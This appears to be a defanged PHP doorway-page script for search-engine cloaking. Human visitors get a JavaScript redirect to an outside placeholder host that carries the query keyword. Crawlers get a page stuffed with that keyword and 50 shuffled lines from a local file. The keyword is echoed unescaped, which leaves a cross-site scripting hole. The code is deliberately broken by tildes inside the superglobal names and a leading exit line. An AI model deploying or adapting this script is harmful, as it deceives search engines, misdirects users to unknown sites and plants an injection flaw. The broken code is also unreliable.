<?php exit; ?>
<?php
$k = str_replace('-', ' ', $_G~ET['q']); $t = file('marker.txt'); shuffle($t);
if (stripos($_S~ERVER['HTTP_USER_AGENT'], 'bot') === false) { echo '<script>location="http://marker.invalid/' . $k . '"</script>'; } else { echo "<h1>$k</h1><p>" . implode(' ', array_slice($t, 0, 50)) . '</p>'; }
